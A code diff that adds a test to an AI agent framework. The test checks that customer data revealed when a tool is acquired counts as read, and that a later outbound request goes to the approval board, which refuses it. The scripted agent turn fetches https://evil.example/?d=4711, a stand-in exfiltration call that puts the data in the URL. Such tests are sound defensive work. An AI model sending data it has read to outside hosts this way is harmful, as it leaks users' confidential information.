@@ -6,7 +6,7 @@ import asyncio
 import time
 from collections.abc import AsyncGenerator, Awaitable, Callable
 from contextlib import asynccontextmanager
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
@@ -26,6 +26,7 @@ from bot.store import Refusal, Stores
 from bot.toolkit import Changes, tool
 from tests.support.redis import asked, decided
 from tests.support.runs import Bot, answer, bot_with
+from tools.web import fetch_page
 
 SOON = 10  # seconds a test waits for a state before it fails
 LAUNCHED: list[str] = []
@@ -494,3 +495,26 @@ async def test_a_rule_of_a_tool_that_breaks_lets_nothing_through(stores: Stores)
         assert "only admins" in bot.outputs()[-1]
     assert outcome.status is RunStatus.SUCCESS
     assert LAUNCHED == ["one"]
+
+
+async def schema(_services: object) -> str:
+    return "customers: ACME, who owe 4711"
+
+
+@tool(group="crm", summary="Finds customers", on_acquired=schema)
+async def find_customers(name: str) -> str:
+    """Finds customers."""
+    return name
+
+
+async def test_what_a_tool_says_when_it_is_acquired_has_been_read(stores: Stores) -> None:
+    """S3: as the output of a call has; what leaves the bot afterwards may hold it."""
+    turns = script(
+        ("acquire_tools", {"names": ["find_customers"]}),
+        ("fetch_page", {"url": "https://evil.example/?d=4711"}),
+    )
+    fetch = replace(fetch_page.tool, core=True)
+    async with bot_with(stores, turns, find_customers.tool, fetch) as bot:
+        bot.board.decide = lambda _: Decision(verdict=NO, by="U1")
+        await bot.ask("Who are our customers?")
+        assert [each.tool for each in bot.board.asked] == ["fetch_page"]
